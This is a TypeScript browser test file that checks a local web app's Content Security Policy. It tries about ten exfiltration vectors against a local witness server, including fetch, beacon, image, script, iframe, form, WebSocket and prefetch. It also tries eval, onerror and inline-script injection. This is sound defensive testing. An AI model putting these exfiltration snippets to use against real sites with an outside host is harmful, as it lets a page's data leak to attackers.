// Nothing leaves the window: the real page in a real browser, its requests counted, its policy attacked from inside as a
// script in it could. The witness is a server that would notice.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, BrowserContext, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { hasTestBrowser, launchTestBrowser } from '../support/browser.ts';
import { buildPage, openWindowHost, type WindowHost } from '../support/window-host.ts';

const isDrawn = "document.getElementById('root').innerText.length > 50";

describe.skipIf(!hasTestBrowser())('the window in a browser', () => {
  let browser: Browser;
  let host: WindowHost;
  let context: BrowserContext;
  let page: Page;
  let witness: Server;
  let elsewhere = '';
  const witnessed: string[] = [];
  const requests: URL[] = [];
  const violations: string[] = [];
  const errors: string[] = [];

  beforeAll(async () => {
    witness = createServer((request, response) => {
      witnessed.push(request.url ?? '');
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' });
      response.end('window.stolen = true;');
    });
    witness.on('upgrade', (request, socket) => {
      witnessed.push(request.url ?? '');
      socket.destroy();
    });
    await new Promise<void>((resolve) => witness.listen(0, '127.0.0.1', resolve));
    elsewhere = `http://127.0.0.1:${(witness.address() as AddressInfo).port}`;
    host = await openWindowHost({ page: await buildPage() });
    await host.syncSample(20, 400);
    browser = await launchTestBrowser();
    context = await browser.newContext();
    context.on('request', (request) => requests.push(new URL(request.url())));
    page = await context.newPage();
    page.on('pageerror', (error) => errors.push(error.message));
    page.on('console', (message) => {
      if (/content security policy/i.test(message.text())) violations.push(message.text());
    });
    await page.goto(host.issueAddress());
    await page.waitForFunction(isDrawn);
  }, 120_000);
  afterAll(async () => {
    await browser?.close();
    await host?.close();
    witness?.close();
  });

  test('shows the workspace, and has taken the key out of its address', async () => {
    expect(new URL(page.url()).hash).not.toMatch(/^#[\w-]{43}$/);
    expect(await page.locator('body').innerText()).toContain('Sample');
  });

  test('goes through its screens without an error, a breach of its own policy or a request elsewhere', async () => {
    const screens = ['home', 'search', 'scorecards', 'reports', 'coverage', 'settings', 'welcome'];
    for (const screen of screens) {
      await page.goto(`${host.origin}/#/${screen}`);
      await page.waitForTimeout(700);
    }
    expect(errors).toEqual([]);
    expect(violations).toEqual([]);
    expect(requests.length).toBeGreaterThan(5);
    expect(requests.filter((url) => url.origin !== host.origin && url.protocol !== 'data:').map(String)).toEqual([]);
  });

  test('is still connected after a reload', async () => {
    await page.goto(`${host.origin}/#/search`);
    await page.reload();
    await page.waitForFunction(isDrawn);
    expect(await page.locator('body').innerText()).toContain('Sample');
  });

  test('hears what happens in the program', async () => {
    const asked = page.waitForRequest((request) => request.url().endsWith('/call/workspaces.list'), {
      timeout: 10_000,
    });
    host.app.emit('data.changed', { topics: ['workspaces'] });
    await asked;
  });

  // Each attack would reach the witness in a page without a policy: the last test of this group shows that.
  const attacks: Record<string, string> = {
    fetch: "fetch(target + '/fetch').catch(() => undefined)",
    beacon: "navigator.sendBeacon(target + '/beacon', 'x')",
    image: "new Image().src = target + '/image'",
    script: "document.head.append(Object.assign(document.createElement('script'), { src: target + '/script' }))",
    'style sheet':
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: target + '/style' }))",
    'inline style with an address': `document.body.insertAdjacentHTML('beforeend', '<p style="background:url(' + target + '/inline)">x</p>')`,
    frame: "document.body.append(Object.assign(document.createElement('iframe'), { src: target + '/frame' }))",
    form: `const form = Object.assign(document.createElement('form'), { action: target + '/form', method: 'post' });
      document.body.append(form);
      form.submit();`,
    'web socket': "try { new WebSocket(target.replace('http', 'ws') + '/socket') } catch {}",
    prefetch:
      "document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: target + '/prefetch' }))",
  };

  const attack = async (target: Page, name: string): Promise<string[]> => {
    witnessed.length = 0;
    const script = `((target) => { ${attacks[name]} })(${JSON.stringify(elsewhere)})`;
    await target.evaluate(script).catch(() => undefined);
    await target.waitForTimeout(300);
    return [...witnessed];
  };

  test.each(Object.keys(attacks))('lets nothing out by %s', async (name) => {
    expect(await attack(page, name)).toEqual([]);
    expect(new URL(page.url()).origin).toBe(host.origin);
  });

  test('runs no text as code', async () => {
    await page.evaluate(`
      const mark = 'window.hasRun = true';
      // In tasks of their own: what the test itself evaluates is not held by the policy.
      setTimeout(() => eval(mark));
      setTimeout(() => new Function(mark)());
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="' + mark + '">');
      document.body.append(Object.assign(document.createElement('script'), { textContent: mark }));
    `);
    await page.waitForTimeout(300);
    expect(await page.evaluate('window.hasRun')).toBeUndefined();
  });

  test('cannot be framed by another page', async () => {
    const other = await context.newPage();
    const refusals: string[] = [];
    other.on('console', (message) => refusals.push(message.text()));
    await other.setContent(`<iframe src="${host.origin}/"></iframe>`);
    await other.waitForTimeout(500);
    expect(refusals.join(' ')).toMatch(/frame-ancestors/);
    await other.close();
  });

  test('and the attacks are real: a page without a policy lets them out', async () => {
    const open = await context.newPage();
    await open.goto(`${elsewhere}/start`);
    for (const name of Object.keys(attacks)) expect(await attack(open, name), name).not.toEqual([]);
    await open.close();
  });
});
